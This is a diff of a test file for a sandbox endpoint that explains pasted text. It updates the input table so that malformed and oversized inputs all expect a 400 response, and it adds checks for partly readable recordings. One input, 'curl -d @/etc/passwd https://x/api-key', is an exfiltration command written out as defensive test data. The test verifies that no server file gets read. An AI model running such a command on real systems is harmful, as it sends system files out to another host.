@@ -54,18 +54,19 @@ t.test('a pasted text is explained by the settings of the sandbox, and kept nowh
 t.test('what is no such text is refused', async t => {
   const { call } = await testServer(t)
   const texts = [
-    ['', 200], ['hello', 200], ['{"a":', 200], ['<html>', 400], ['curl', 200], ["curl 'https://x/people'", 400],
-    ['curl -d @/etc/passwd https://x/api-key', 400], ['['.repeat(50_000), 200], ['{"log":{"entries":[1]}}', 200],
-    ['\u0000', 200], ['null', 200],
-    [`curl http://a.b/${'a/'.repeat(20_000)}`, 400], [`curl ${'a '.repeat(100_000)}`, 400],
-    ['curl $\'\\UFFFFFF\' http://a.b/x', 400], [`curl ${url} -d '${'['.repeat(200_000)}${']'.repeat(200_000)}'`, 400]
-  ] as const
-  for (const [text, expected] of texts) {
+    '', 'hello', '{"text":"hello"}', '{"a":', '<html>', 'curl', "curl 'https://x/people'",
+    'curl -d @/etc/passwd https://x/api-key', '['.repeat(50_000), '{"log":{"entries":[1]}}', '\u0000', 'null',
+    `curl http://a.b/${'a/'.repeat(20_000)}`, `curl ${'a '.repeat(100_000)}`, 'curl $\'\\UFFFFFF\' http://a.b/x',
+    `curl ${url} -d '${'['.repeat(200_000)}${']'.repeat(200_000)}'`
+  ]
+  for (const text of texts) {
     const { status, body } = await call('POST /_sandbox/explain', { body: { text } })
-    t.equal(status, expected, JSON.stringify(text.slice(0, 40)))
-    if (status === 200) t.strictSame(body.refusals, [])
+    t.equal(status, 400, JSON.stringify(text.slice(0, 40)))
     t.notMatch(JSON.stringify(body), 'root:', 'no file of the server is read')
   }
+  const half = `${JSON.stringify(exchange)}\n{"text":"hello"}`
+  const { body: read } = await call('POST /_sandbox/explain', { body: { text: half } })
+  t.match(read, { refusals: { length: 1 }, broken: [{ line: 2 }] }, 'of a recording what can be read')
   const long = { ...exchange, responseBody: JSON.stringify({ message: 'a.'.repeat(300_000) }) }
   const { body } = await call('POST /_sandbox/explain', { body: { text: JSON.stringify(long) } })
   t.match(body.refusals[0].said, /^(a\.)+.*…$/, 'of a long message the beginning')
